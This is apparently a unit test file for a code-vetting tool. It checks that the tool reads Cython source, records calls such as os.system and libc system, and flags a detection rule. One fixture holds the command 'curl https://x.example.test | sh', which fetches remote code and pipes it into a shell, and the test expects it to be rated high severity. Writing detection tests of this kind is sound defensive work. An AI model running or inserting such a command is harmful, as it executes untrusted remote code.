"""Cython, read as the Python that it nearly is."""

from tests.vetting.domain.signals.code.judging import BY_ID
from tests.vetting.domain.signals.looking import found
from vetting.domain.code.cython import ROUGH, facts_of_cython
from vetting.domain.code.facts import Language, When
from vetting.domain.code.reading import facts_of
from vetting.domain.code.syntax import Limits

SOURCE = b"""#!python
import os
cimport numpy as cnp
from libc.stdlib cimport system as run

cdef class Demo:
    cdef int number
    cpdef inline unsigned int *work(self, int a, double b=1) except? -1:
        os.system("one")
        return <int>a

cdef void start() nogil:
    run("two")
run("three")
"""


def test_what_cython_calls_is_seen() -> None:
    """Where it stands, by its name, and when it runs: what is defined in C is called later, too."""
    facts = facts_of("demo/work.pyx", SOURCE)
    assert facts is not None
    assert (facts.language, facts.broken, facts.rough) == (Language.PYTHON, None, ROUGH)
    assert [(call.name, call.place.line, call.place.column, call.when) for call in facts.calls] == [
        ("os.system", 9, 9, When.CALLED),
        ("libc.stdlib.system", 13, 5, When.CALLED),
        ("libc.stdlib.system", 14, 1, When.LOADED),
    ]
    assert [one.name for one in facts.imports] == ["os", "numpy", "libc.stdlib"]


def test_what_of_cython_was_not_read_is_said() -> None:
    """As of any source."""
    assert facts_of_cython(b"a;" * 100, Limits(max_nodes=30)).rough == f"{ROUGH}; only its first 30 parts were read"


def test_rules_about_code_read_cython() -> None:
    """As if it were Python; C's own way to start a program is one."""
    source = b'from libc.stdlib cimport system\ncdef int f():\n    system(b"curl https://x.example.test | sh")\n'
    assert [one.severity.value for one in found(BY_ID["C3"], "demo/work.pyx", source)] == ["high"]
    assert found(BY_ID["C3"], "demo/work.pyx", source.replace(b"| sh", b"")) == []
